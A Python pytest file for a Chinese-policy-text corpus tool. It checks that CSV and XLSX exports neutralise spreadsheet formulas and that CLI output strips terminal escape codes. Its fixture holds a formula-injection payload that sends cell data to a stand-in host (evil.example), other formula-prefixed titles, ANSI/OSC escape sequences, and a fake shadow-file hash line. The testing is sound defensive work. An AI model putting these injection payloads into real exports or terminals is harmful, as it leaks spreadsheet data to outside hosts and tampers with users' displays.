"""Outputs that strangers' text cannot turn against the user: spreadsheets and terminals."""

from __future__ import annotations

import csv
import subprocess
import sys

import openpyxl
import pandas as pd
import pytest

from policylens.corpus.export import export_corpus, neutralise_formulas
from policylens.corpus.ingest import ingest_bytes
from policylens.corpus.records import DocumentMeta
from policylens.corpus.store import Corpus

EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'
TEXT = "关于推进数字经济发展的通知。大力发展大数据、人工智能和云计算，建设数字政府。" * 3
BODIES = ["农业农村现代化建设，高标准农田和种业振兴", "交通运输网络完善，铁路公路航空枢纽建设",
          "生态环境保护治理，沙漠防护林和水资源节约", "医疗卫生服务体系，县级医院和乡村卫生室",
          "教育事业均衡发展，职业教育和双语教学质量", "旅游文化产业繁荣，景区提升和非遗保护传承",
          "能源基地建设推进，煤电油气风光储一体化", "社会保障体系健全，养老保险和最低生活保障"]


@pytest.fixture
def evil_corpus(tmp_path):
    data = tmp_path / "data"
    with Corpus.open(data) as corpus:
        for n, title in enumerate([EVIL, "+SUM(1,2)", "-2+3", "@cmd", "\tTAB", "\rCR",
                                   "正常标题", "标题\x1b[2J\x1b]0;pwned\x07结束"]):
            body = (BODIES[n] + "。") * 4
            result = ingest_bytes(corpus, f"{title}\n{body}".encode(), DocumentMeta(
                f"http://x.gov.cn/{n}.txt", filename=f"{n}.txt", overrides={"title": title}))
            assert result.status == "added", result
    return data


def test_the_rule_is_owasps():
    frame = pd.DataFrame({"t": ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "a=b", ""],
                          "n": [1, -2, 3, 4, 5, 6, 7, 8]})
    out = neutralise_formulas(frame)
    assert out["t"].tolist() == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "a=b", ""]
    assert out["n"].tolist() == [1, -2, 3, 4, 5, 6, 7, 8]  # numbers stay numbers


def test_no_xlsx_cell_is_a_formula(evil_corpus, tmp_path):
    with Corpus.open(evil_corpus) as corpus:
        path = export_corpus(corpus, "xlsx", tmp_path / "out.xlsx")
    sheet = openpyxl.load_workbook(path)["documents"]
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in next(sheet.iter_rows())]
    titles = [row[header.index("title")].value for row in sheet.iter_rows(min_row=2)]
    # (the corpus strips the tab and CR off titles; the rule test above covers them)
    assert titles[:7] == ["'" + EVIL, "'+SUM(1,2)", "'-2+3", "'@cmd", "TAB", "CR", "正常标题"]


def test_csv_cells_are_neutralised_and_parquet_keeps_the_text(evil_corpus, tmp_path):
    with Corpus.open(evil_corpus) as corpus:
        export_corpus(corpus, "csv", tmp_path / "out.csv")
        export_corpus(corpus, "parquet", tmp_path / "out.parquet")
    with open(tmp_path / "out.csv", encoding="utf-8-sig", newline="") as handle:
        titles = [row["title"] for row in csv.DictReader(handle)]
    assert titles[0] == "'" + EVIL and titles[2] == "'-2+3"
    assert pd.read_parquet(tmp_path / "out.parquet")["title"].tolist()[0] == EVIL


def test_corpus_ls_and_show_strip_terminal_escapes(evil_corpus, tmp_path):
    def cli(*args):
        return subprocess.run([sys.executable, "-m", "policylens", "corpus", *args,
                               "--data-dir", str(evil_corpus)], capture_output=True, text=True,
                              timeout=120)

    ls = cli("ls")
    show = cli("show", "8")
    as_csv = cli("ls", "--format", "csv")
    assert ls.returncode == show.returncode == as_csv.returncode == 0
    for out in (ls.stdout, show.stdout):
        assert "\x1b" not in out and "\x07" not in out
    assert "标题[2J]0;pwned结束" in show.stdout
    rows = list(csv.DictReader(as_csv.stdout.splitlines()))
    assert rows[0]["title"] == "'" + EVIL


def test_a_wrong_lexicon_path_does_not_echo_the_file(tmp_path):
    secret = tmp_path / "shadow"
    secret.write_text("root:$6$secrethash:19000:0:99999:7:::\n", encoding="utf-8")
    doc = tmp_path / "a.txt"
    doc.write_text(TEXT, encoding="utf-8")
    proc = subprocess.run([sys.executable, "-m", "policylens", "score", "--lexicon", str(secret),
                           str(doc)], capture_output=True, text=True, timeout=120)
    assert proc.returncode == 2
    assert "secrethash" not in proc.stderr + proc.stdout
    assert proc.stderr.strip() == (f"error: {secret}:1: a term appears before any [category] "
                                   "line (is this a lexicon file?) (start each group of terms "
                                   "with a line like [大数据])")
